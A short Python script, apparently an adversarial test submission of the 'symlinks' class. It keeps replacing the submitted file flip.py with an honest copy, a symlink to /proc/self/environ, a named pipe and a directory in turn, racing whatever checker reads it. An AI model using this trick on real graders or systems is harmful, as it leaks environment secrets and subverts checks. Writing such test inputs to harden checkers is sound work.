"""Class: symlinks. The submitted file is a file, a link, a pipe and a folder by turns, many times a second."""

import os
import shutil

with open("flip.py", encoding="utf-8") as file:
    honest = file.read()


def put_file(path):
    with open(path, "w", encoding="utf-8") as file:
        file.write(honest)


def put_link(path):
    os.symlink("/proc/self/environ", path)


while True:
    for put in (put_file, put_link, put_file, os.mkfifo, put_file, os.mkdir):
        if os.path.isdir("flip.py") and not os.path.islink("flip.py"):
            shutil.rmtree("flip.py")
        elif put is os.mkdir:
            os.unlink("flip.py")
        put(".next")
        os.rename(".next", "flip.py")
